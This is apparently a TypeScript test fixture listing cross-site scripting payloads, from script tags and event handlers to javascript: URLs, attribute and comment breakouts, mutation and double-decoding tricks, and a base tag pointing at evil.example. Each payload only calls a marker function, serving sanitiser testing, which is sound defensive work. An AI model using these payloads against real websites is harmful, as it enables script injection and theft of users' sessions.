/**
 * Texts that run `__xss()` where they are treated as anything but text. Our own collection: tags, attributes, handlers, addresses,
 * images, templates, what a parser corrects, and ways to break out of where a text may stand.
 */
export const PAYLOADS = [
  // Elements.
  '<script>__xss()</script>',
  '<ScRiPt >__xss()</sCrIpT >',
  '<img src=x onerror=__xss()>',
  '<img/src="x"/onerror="__xss()"/>',
  '<svg onload=__xss()>',
  '<svg><script>__xss()</script></svg>',
  '<svg><animate onbegin=__xss() attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.__xss()</script>">',
  '<iframe src=javascript:parent.__xss()>',
  '<object data="data:text/html,<script>__xss()</script>">',
  '<details open ontoggle=__xss()>x</details>',
  '<input autofocus onfocus=__xss()>',
  '<video><source onerror=__xss()></video>',
  '<body onpageshow=__xss()>',
  '<a href="javascript:__xss()" id=xss>click</a>',
  '<form action=javascript:__xss()><button autofocus>x</button></form>',
  '<math href=javascript:__xss()>x</math>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:__xss()">',
  // Out of an attribute.
  '" autofocus onfocus="__xss()" x="',
  "' onmouseover='__xss()' style='position:fixed;inset:0",
  '`onload=__xss()` "><img src=x onerror=__xss()>',
  // Out of other text: script, data, comment, CDATA, title, textarea.
  '</script><script>__xss()</script>',
  "\\u003c/script>';__xss();//\\",
  '--><script>__xss()</script><!--',
  ']]><script>__xss()</script><![CDATA[',
  '</title></textarea></style><img src=x onerror=__xss()>',
  // What becomes something else when it is decoded twice.
  '&lt;img src=x onerror=__xss()&gt;&#60;script&#62;__xss()',
  '%3Cscript%3E__xss()%3C/script%3E {{constructor.constructor("__xss()")()}} ${__xss()}',
  '<template></template><noscript><p title="</noscript><img src=x onerror=__xss()>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=__xss()>',
  '＜script＞__xss()＜/script＞ ‹img src=x› \u00adjava\u00adscript:__xss()',
];

/** A text as it is stored: one space between words, and no character that nobody can see. */
export const asStored = (text: string) => text.replaceAll('\u00ad', '').split(/\s+/).filter(Boolean).join(' ');
